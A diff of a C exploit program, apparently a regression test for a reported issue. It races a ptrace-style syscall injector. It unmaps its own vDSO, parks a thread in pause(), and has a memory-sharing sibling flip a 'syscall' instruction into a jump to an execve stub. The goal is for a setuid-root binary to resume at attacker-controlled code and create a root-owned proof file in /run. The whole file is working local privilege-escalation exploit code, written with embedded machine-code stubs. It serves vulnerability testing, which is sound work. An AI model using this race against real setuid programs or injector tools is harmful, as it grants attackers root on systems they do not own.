@@ -2,24 +2,27 @@
 /* The exec race of issue 23, for scenario 95-trust-exec-race (run as an
  * unprivileged user, against the injector helper):
  *
- *   pg-exec-race attack SUID   the attacker: a thread spinning at PWNED_ADDR,
- *                              a `syscall` (0f 05) at the start of its vDSO
- *                              that a process sharing its memory (CLONE_VM,
- *                              so the helper stops nothing of it) keeps
- *                              flipping to a jump into code that runs
- *                              execve(SUID, ["SUID", "canary"]). An injector
- *                              that found the 0f 05, and then runs whatever
- *                              is there, watches an execve as its own
- *                              syscall; if it then writes its saved
- *                              registers back, the new image resumes at
- *                              PWNED_ADDR.
- *   pg-exec-race canary        what the setuid-root copy does when run
- *                              normally: exits 7.
+ *   pg-exec-race attack SUID POLL_US BURST_MS
+ *           the attacker. It unmaps its vDSO, so the injector uses the
+ *           `syscall` (0f 05) just before the RIP of a thread stopped in a
+ *           syscall: its only thread sleeps in pause() through one at
+ *           PWNED_ADDR + 5. A process that shares its memory (CLONE_VM: no
+ *           thread of it, so the helper stops nothing of it) polls that
+ *           thread's state every POLL_US; once it is in a tracing stop, it
+ *           flips those two bytes, for BURST_MS, between the `syscall` and a
+ *           jump to code that runs execve(SUID, [SUID, "canary"]). An
+ *           injector that checked the instruction, and then runs whatever
+ *           is there, watches the execve as its own syscall; if it then
+ *           writes its saved registers back, the new setuid image resumes
+ *           at the attacker's RIP.
+ *   pg-exec-race canary
+ *           what the setuid-root copy does when run normally: exits 7.
  *
- * In the canary image, PWNED_ADDR (a fixed address: not PIE) holds code that
- * uses no stack, creates PWNED_FILE, and exits 42: with euid 0 it can, so
- * the file owned by root proves that the setuid image ran from the
- * attacker's RIP. */
+ * In the canary image (not PIE), PWNED_ADDR holds nops up to code that
+ * uses no stack, creates PWNED_FILE and exits 42: with euid 0 it can, so
+ * the file, owned by root, proves that the setuid image ran from the
+ * attacker's RIP (PWNED_ADDR + 7, after pause's `syscall`, or + 5 when the
+ * kernel restarts it). */
 #include <errno.h>
 #include <fcntl.h>
 #include <sched.h>
@@ -28,17 +31,20 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
-#include <sys/auxv.h>
 #include <sys/mman.h>
-#include <sys/prctl.h>
 #include <sys/syscall.h>
+#include <time.h>
 #include <unistd.h>
 
 #define PWNED_ADDR 0x10000000UL
+#define SYSCALL_AT (PWNED_ADDR + 5)
+#define STUB_AT (PWNED_ADDR + 0x40)
 
 /* Linked at PWNED_ADDR (meson: --section-start). */
 __asm__(".pushsection .pwned,\"ax\",@progbits\n"
-        "pwned:\n"
+        "        .byte 0x0f, 0x1f, 0x44, 0x00, 0x00\n"  /* nop, 5 bytes */
+        "        .byte 0x66, 0x90\n"                    /* nop, 2 bytes: PWNED_ADDR + 5 */
+        "pwned:\n"                                      /* PWNED_ADDR + 7 */
         "        lea pwned_file(%rip), %rdi\n"
         "        mov $0x241, %esi\n"          /* O_WRONLY|O_CREAT|O_TRUNC */
         "        mov $0644, %edx\n"
@@ -50,61 +56,89 @@ __asm__(".pushsection .pwned,\"ax\",@progbits\n"
         "pwned_file: .asciz \"/run/pg-exec-race-pwned\"\n"
         ".popsection\n");
 
-static int mem_fd = -1;
-static uint64_t flip_at;
+static struct {
+        pid_t leader;
+        long poll_us;
+        long burst_ms;
+} flip;
 
-/* The vDSO cannot be made writable (mprotect says EINVAL on 6.18), but a
- * write through /proc/self/mem (FOLL_FORCE, as a debugger's breakpoint)
- * gives the process its own copy of the page. */
-static int poke(uint64_t addr, const void *bytes, size_t n) {
-        return pwrite(mem_fd, bytes, n, (off_t) addr) == (ssize_t) n ? 0 : -1;
+/* Raw syscalls only from here on: the vDSO is gone. */
+static uint64_t now_us(void) {
+        struct timespec ts;
+        syscall(SYS_clock_gettime, CLOCK_MONOTONIC, &ts);
+        return (uint64_t) ts.tv_sec * 1000000 + (uint64_t) ts.tv_nsec / 1000;
+}
+
+static void sleep_us(long us) {
+        struct timespec ts = { us / 1000000, (us % 1000000) * 1000 };
+        syscall(SYS_nanosleep, &ts, NULL);
+}
+
+static char leader_state(void) {
+        char path[64], buf[256];
+        snprintf(path, sizeof(path), "/proc/%d/stat", (int) flip.leader);
+        int fd = (int) syscall(SYS_openat, AT_FDCWD, path, O_RDONLY | O_CLOEXEC);
+        if (fd < 0)
+                return 0;
+        ssize_t n = syscall(SYS_read, fd, buf, sizeof(buf) - 1);
+        syscall(SYS_close, fd);
+        if (n <= 0)
+                return 0;
+        buf[n] = '\0';
+        char *p = strrchr(buf, ')');
+        return p && p[1] == ' ' ? p[2] : 0;
 }
 
 static int flipper(void *arg) {
-        static const uint8_t insn_syscall[2] = { 0x0f, 0x05 }, insn_jump[2] = { 0xeb, 0x16 };
-        pid_t parent = (pid_t) (long) arg;
+        volatile uint16_t *insn = (volatile uint16_t *) SYSCALL_AT;
+        (void) arg;
 
-        for (unsigned long i = 0;; i++) {
-                poke(flip_at, insn_syscall, 2);
-                poke(flip_at, insn_jump, 2);  /* jmp +0x16: to the stub */
-                /* Until the attacker image is gone (its exec, its end). */
-                if ((i & 0xff) == 0 && syscall(SYS_getppid) != parent)
+        /* Until the leader is in a tracing stop ('t'), or gone. */
+        for (;;) {
+                char s = leader_state();
+                if (s == 't')
+                        break;
+                if (s == 0 || syscall(SYS_getppid) != flip.leader)
                         syscall(SYS_exit, 0);
+                if (flip.poll_us > 0)
+                        sleep_us(flip.poll_us);
+                else
+                        syscall(SYS_sched_yield);
         }
+        uint64_t end = now_us() + (uint64_t) flip.burst_ms * 1000;
+        for (unsigned long i = 1;; i++) {
+                *insn = 0x050f;   /* syscall */
+                *insn = 0x39eb;   /* jmp STUB_AT */
+                if ((i & 0xfff) == 0 && now_us() >= end)
+                        break;
+        }
+        *insn = 0x050f;
+        syscall(SYS_exit, 0);
         return 0;
 }
 
 int main(int argc, char **argv) {
         if (argc == 2 && strcmp(argv[1], "canary") == 0)
                 return 7;
-        if (argc != 3 || strcmp(argv[1], "attack") != 0) {
-                fprintf(stderr, "usage: %s attack SUID-COPY | canary\n", argv[0]);
+        if (argc != 5 || strcmp(argv[1], "attack") != 0) {
+                fprintf(stderr, "usage: %s attack SUID-COPY POLL_US BURST_MS | canary\n", argv[0]);
                 return 2;
         }
+        flip.poll_us = atol(argv[3]);
+        flip.burst_ms = atol(argv[4]);
 
-        /* The page the injected thread spins in: PWNED_ADDR, as in the canary. */
+        /* The page the thread sleeps in: PWNED_ADDR, as in the canary. */
         uint8_t *p = mmap((void *) PWNED_ADDR, 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
                           MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
         if (p == MAP_FAILED) {
                 perror("mmap");
                 return 2;
         }
-        p[0] = 0xeb;  /* jmp . */
-        p[1] = 0xfe;
-        snprintf((char *) p + 0x100, 0x80, "%s", argv[2]);
-        strcpy((char *) p + 0x180, "canary");
-        uint64_t *args = (uint64_t *) (p + 0x200);
-        args[0] = PWNED_ADDR + 0x100;
-        args[1] = PWNED_ADDR + 0x180;
-        args[2] = 0;
-
-        uint64_t vdso = getauxval(AT_SYSINFO_EHDR);
-        mem_fd = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
-        if (vdso == 0 || mem_fd < 0) {
-                perror("vdso");
-                return 2;
-        }
-        /* The stub, in the ELF header's bytes (read once, at start). */
+        static const uint8_t sleeper[] = {
+                0xb8, 0x22, 0x00, 0x00, 0x00,   /* mov $34 (pause), %eax */
+                0x0f, 0x05,                     /* syscall, at SYSCALL_AT */
+                0xeb, 0xf7,                     /* jmp PWNED_ADDR */
+        };
         static const uint8_t stub[] = {
                 0xbf, 0x00, 0x01, 0x00, 0x10,   /* mov $PWNED_ADDR+0x100, %edi */
                 0xbe, 0x00, 0x02, 0x00, 0x10,   /* mov $PWNED_ADDR+0x200, %esi */
@@ -113,19 +147,37 @@ int main(int argc, char **argv) {
                 0x0f, 0x05,                     /* syscall */
                 0xeb, 0xfe,                     /* jmp . */
         };
-        flip_at = vdso + 8;
-        if (poke(vdso + 0x20, stub, sizeof(stub)) < 0) {
-                perror("write to the vDSO");
-                return 2;
-        }
+        memcpy(p, sleeper, sizeof(sleeper));
+        memcpy(p + (STUB_AT - PWNED_ADDR), stub, sizeof(stub));
+        snprintf((char *) p + 0x100, 0x80, "%s", argv[2]);
+        strcpy((char *) p + 0x180, "canary");
+        uint64_t *args = (uint64_t *) (p + 0x200);
+        args[0] = PWNED_ADDR + 0x100;
+        args[1] = PWNED_ADDR + 0x180;
+        args[2] = 0;
+
+        /* Without a vDSO the injector uses the `syscall` just before the
+         * RIP of a thread stopped in a syscall: ours, at SYSCALL_AT. */
+        FILE *maps = fopen("/proc/self/maps", "re");
+        char line[512];
+        unsigned long start, end;
+        while (maps && fgets(line, sizeof(line), maps))
+                if (strstr(line, "[vdso]") && sscanf(line, "%lx-%lx", &start, &end) == 2 &&
+                    munmap((void *) start, end - start) < 0) {
+                        perror("munmap of the vDSO");
+                        return 2;
+                }
+        if (maps)
+                fclose(maps);
+        flip.leader = (pid_t) syscall(SYS_getpid);
 
         static uint8_t stack[64 * 1024] __attribute__((aligned(16)));
-        pid_t child = clone(flipper, stack + sizeof(stack), CLONE_VM | SIGCHLD, (void *) (long) getpid());
+        pid_t child = clone(flipper, stack + sizeof(stack), CLONE_VM | SIGCHLD, NULL);
         if (child < 0) {
                 perror("clone");
                 return 2;
         }
-        printf("ready %d %d\n", (int) getpid(), (int) child);
+        printf("ready %d %d\n", (int) flip.leader, (int) child);
         fflush(stdout);
         ((void (*)(void)) PWNED_ADDR)();
         return 3;
